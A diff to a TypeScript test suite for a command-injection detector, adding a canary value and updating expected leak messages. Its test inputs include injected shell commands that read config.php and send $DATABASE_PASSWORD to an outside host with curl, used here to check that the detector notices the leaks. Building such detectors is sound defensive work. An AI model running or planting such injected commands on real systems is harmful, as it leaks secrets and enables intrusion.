@@ -4,6 +4,7 @@ import { startIsolatedTwin } from "../../support/isolated-twin.ts"
 
 const twin = await startIsolatedTwin("command_injection")
 afterAll(() => twin?.close())
+const CANARY = "00112233445566778899aabbccddeeff"
 const withTwin = describe.skipIf(twin === undefined)
 
 async function run(payload: string, more: { templates?: string[]; budgetMs?: number } = {}) {
@@ -55,10 +56,10 @@ withTwin("shellTwin, by effect", () => {
 
   test("sees a file's secret in the output, and one of the environment in arguments", async () => {
     expect(await effectsOf("; cat config.php")).toContain(
-      "output_leaked: the output holds a secret",
+      `output_leaked: in the output: file-${CANARY}`,
     )
     expect(await effectsOf("; curl http://192.0.2.1/$DATABASE_PASSWORD")).toContain(
-      "output_leaked: the arguments of curl hold a secret",
+      `output_leaked: in the arguments of curl: variable-${CANARY}`,
     )
   })
 
